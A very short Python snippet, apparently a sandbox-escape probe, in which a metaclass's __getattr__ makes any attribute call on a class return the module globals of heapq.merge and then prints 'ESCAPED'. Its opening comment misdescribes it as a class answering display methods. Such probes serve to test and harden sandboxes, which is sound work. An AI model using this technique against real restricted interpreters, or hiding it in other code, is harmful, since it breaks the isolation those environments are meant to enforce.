# A class that answers every display method.
import heapq
class M(type):
    def __getattr__(cls, n): return lambda *a, **k: str(getattr(heapq.merge, "__globals__"))
class C(metaclass=M): pass
C
print("ESCAPED", C.anything())
